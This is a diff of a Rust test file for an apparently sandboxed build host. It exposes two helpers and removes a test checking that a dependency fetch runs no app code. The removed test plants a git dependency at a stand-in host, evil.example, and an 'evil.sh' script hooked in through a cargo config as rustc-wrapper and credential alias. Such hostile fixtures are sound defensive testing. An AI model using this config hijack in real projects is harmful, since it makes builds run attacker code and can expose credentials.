@@ -9,7 +9,7 @@ use oarlock_tests::need_program;
 use crate::binary;
 
 /// An app whose build is `script`; a component lies there already.
-fn tenant(apps: &Apps, app: &str, script: &str) {
+pub(super) fn tenant(apps: &Apps, app: &str, script: &str) {
     apps.add(
         app,
         "[processes]\nweb = \"web.wasm\"\n[build]\ncommand = \"sh build.sh\"\n",
@@ -18,7 +18,7 @@ fn tenant(apps: &Apps, app: &str, script: &str) {
     apps.write(&format!("{app}/build.sh"), script);
 }
 
-fn building(apps: &Apps, policy: &str) -> Launch {
+pub(super) fn building(apps: &Apps, policy: &str) -> Launch {
     need_program("bwrap", "bubblewrap");
     let mut launch = apps.serve(binary()).args(&["--build"]);
     launch.command.env("SECRET_OF_THE_HOST", "environment");
@@ -151,37 +151,6 @@ async fn a_killed_host_leaves_no_fenced_build_behind() {
     until("the build runs", || runs("6104.25")).await;
     rustix::process::kill_process(host.pid(), rustix::process::Signal::KILL).unwrap();
     until("the build has ended", || !runs("6104.25")).await;
-}
-
-#[tokio::test]
-async fn a_fetch_runs_nothing_of_the_app_and_reaches_only_the_registries() {
-    let apps = Apps::new();
-    tenant(&apps, "ada", "true");
-    let lib = "[package]\nname = \"ada\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\
-               [lib]\npath = \"lib.rs\"\n\
-               [dependencies]\nevil = { git = \"https://evil.example/evil\" }\n";
-    apps.write("ada/Cargo.toml", lib);
-    apps.write("ada/lib.rs", "");
-    apps.write("ada/evil.sh", "#!/bin/sh\ntouch /build/ran\nexec \"$@\"\n");
-    apps.write(
-        "ada/.cargo/config.toml",
-        "[build]\nrustc-wrapper = \"/build/evil.sh\"\n[net]\ngit-fetch-with-cli = true\n\
-         [http]\nproxy = \"\"\n[credential-alias]\nx = [\"/build/evil.sh\"]\n",
-    );
-    let host = running(building(&apps, ""), &["ada"]).await;
-    host.output.wait_for("the fetch failed").await;
-    let all = host.output.lines().join("\n");
-    // Without cargo on this machine the fetch fails before it asks for anything.
-    assert!(
-        all.contains("evil.example:443") && all.contains("`[build] fetch`")
-            || all.contains("not found"),
-        "{all}"
-    );
-    assert!(
-        !apps.path("ada/ran").exists(),
-        "the fetch ran the app's code"
-    );
-    assert_eq!(host.interrupt().await, Some(0));
 }
 
 #[tokio::test]
